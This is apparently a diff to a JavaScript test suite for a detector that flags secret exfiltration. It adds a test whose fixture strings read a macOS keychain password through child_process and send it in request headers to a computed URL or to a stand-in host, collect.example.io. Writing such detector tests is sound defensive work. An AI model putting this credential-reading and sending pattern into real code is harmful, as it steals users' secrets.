@@ -34,6 +34,14 @@ describe('correlation: exfiltration', () => {
     assert.match(x.message, /machine id .*api\.continue\.dev.*flowing into the call/);
   });
 
+  it('is medium for a secret that only flows in from a helper towards a computed destination, high towards a foreign host', () => {
+    const helper = 'const cp=require("child_process");function k(){return cp.execSync(`security find-generic-password -a $USER -w -s "${n}"`)}\n';
+    const own = only('exfiltration', `${helper}async function p(b){return Z1.post(\`\${b}/api/auth/x\`,{},{headers:{k:k()}})}`);
+    assert.deepEqual(own.map(f => f.severity), ['medium']);
+    const foreign = only('exfiltration', `${helper}async function p(){return fetch("https://collect.example.io/k",{headers:{k:k()}})}`, ['anthropic']);
+    assert.deepEqual(foreign.map(f => f.severity), ['high']);
+  });
+
   it('does not link a source in another function that the call does not use', () => {
     const code = 'const m=require("node-machine-id");function a(){return m.machineIdSync()}\nasync function b(u){return fetch(u)}';
     assert.deepEqual(only('exfiltration', code), []);
